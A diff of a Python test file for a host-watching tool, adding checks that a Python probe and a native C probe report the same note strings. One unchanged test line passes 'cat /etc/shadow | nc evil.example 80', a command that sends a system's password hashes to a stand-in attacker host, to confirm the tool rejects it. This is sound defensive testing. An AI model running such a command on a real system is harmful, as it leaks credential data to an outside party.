@@ -1,4 +1,6 @@
-"""Hints of a watch are commands that somebody types: only those that the probes have are taken."""
+"""What the probes say of a watch: the same words from both, and hints that somebody types are only
+those that the probes have.
+"""
 
 from __future__ import annotations
 
@@ -43,6 +45,27 @@ def native_hints() -> set[str]:
     return found | {*re.findall(r'PARANOID\[\] = "([^"]+)"', sources)}
 
 
+def python_notes() -> set[str]:
+    """Returns the notes in the source of the Python probe."""
+    names = {
+        target.id: ast.literal_eval(node.value)
+        for file in (PROBE / "remote").glob("watch*.py")
+        for node in ast.parse(file.read_text("utf-8")).body
+        if isinstance(node, ast.Assign)
+        for target in node.targets
+        if isinstance(target, ast.Name) and target.id.endswith("_NOTE")
+    }
+    return {*names.values()}
+
+
+def native_notes() -> set[str]:
+    """Returns the notes in the source of the native probe, with Python's formats of numbers."""
+    sources = "".join(file.read_text("utf-8") for file in (PROBE / "native").glob("watch*.c"))
+    joined = re.sub(r'(?<!\\)"\s*"', "", sources)
+    found = re.findall(r'add_note\(\s*[\w.&>-]+,\s*"((?:[^"\\]|\\.)+)"', joined)
+    return {re.sub("%l+d", "%d", note).replace('\\"', '"') for note in found}
+
+
 def hint_taken(hint: str) -> str:
     """Returns the hint of a host that could not be watched, if it sends `hint`."""
     reply = ReplyBase(
@@ -68,3 +91,9 @@ def test_every_hint_of_a_probe_is_taken(hints: set[str]) -> None:
 
 def test_no_other_command_is_taken_from_a_host() -> None:
     assert hint_taken("cat /etc/shadow | nc evil.example 80") == ""
+
+
+def test_both_probes_note_in_the_same_words() -> None:
+    notes = python_notes()
+    assert len(notes) > 5
+    assert notes == native_notes()
